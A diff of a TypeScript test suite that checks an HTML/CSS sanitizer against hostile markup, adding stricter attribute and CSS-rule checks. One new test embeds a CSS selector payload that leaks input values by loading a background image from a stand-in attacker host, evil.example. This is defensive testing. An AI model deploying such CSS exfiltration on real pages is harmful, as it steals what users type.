@@ -40,7 +40,7 @@ function open(text: string): HTMLElement {
 }
 
 describe('hostile HTML', () => {
-  it('there are more than a hundred ways', () => expect(vectors.length).toBeGreaterThan(120));
+  it('there are more than two hundred ways', () => expect(vectors.length).toBeGreaterThan(200));
 
   it('does nothing', async () => {
     const stage = document.createElement('section');
@@ -68,8 +68,23 @@ describe('hostile HTML', () => {
         ),
         vector,
       ).toBeNull();
-      expect(stage.querySelector('airside-store, airside-shop, airside-checkout, [is]'), vector).toBeNull();
-      expect(css, vector).not.toMatch(/javascript|@import/i);
+      expect(
+        stage.querySelector('[is], [slot], [autofocus], [ping], [srcdoc], [popover]'),
+        vector,
+      ).toBeNull();
+      for (const { localName } of stage.querySelectorAll('*'))
+        if (localName.includes('-')) expect(Object.keys(liveTags), vector).toContain(localName);
+      expect(css, vector).not.toMatch(/javascript|@import|@font-face|@property|@layer|@namespace|\s--/i);
+      expect(css, vector).not.toMatch(
+        /[;{\s](?:position|content|cursor|filter|mask|clip-path|shape-outside):/,
+      );
+      // Nothing has taken the place of what scripts of the page reach for.
+      expect([document.body.localName, typeof document.getElementById, document.currentScript]).toEqual([
+        'body',
+        'function',
+        null,
+      ]);
+      expect(window).not.toHaveProperty('createPolicy');
       stage.querySelectorAll<HTMLElement>('.bait').forEach((bait) => bait.click());
       await new Promise((done) => setTimeout(done, 1));
     }
@@ -82,7 +97,7 @@ describe('hostile HTML', () => {
     const { css } = prepared(
       '<style>body,.alert{display:none} :host{display:none} p{position:fixed;color:red;content:"x"} @media print{p{color:red}}</style><p>x</p>',
     );
-    expect(css).toContain('@scope (.cms-html)');
+    expect(css).toContain('@scope (.cms-html) to ([data-airside-root] > *)');
     expect(css).not.toMatch(/:host|position|content:/);
     expect(css).toMatch(/@media print \{\s*p \{ color: red; \}/);
     const outside = open('<style>.outside{display:none}</style><p class="outside">in</p>');
@@ -91,6 +106,17 @@ describe('hostile HTML', () => {
     outside.after(other);
     expect(getComputedStyle(outside.querySelector('.outside')!).display).toBe('none');
     expect(getComputedStyle(other).display).toBe('block');
+  });
+
+  it('cannot read what is typed into an element of ours', () => {
+    const box = open(
+      `<style>input[value^="a"], div:has(input[value^="a"]) { background: url(https://evil.example/a) }</style><div><airside-contact></airside-contact></div>`,
+    );
+    const contact = box.querySelector('airside-contact')!;
+    contact.setAttribute('data-airside-root', '');
+    contact.innerHTML = '<form><input value="ann"></form>';
+    for (const element of box.querySelectorAll('div, input'))
+      expect(getComputedStyle(element).backgroundImage).toBe('none');
   });
 
   it('keeps harmless styles only', () => {
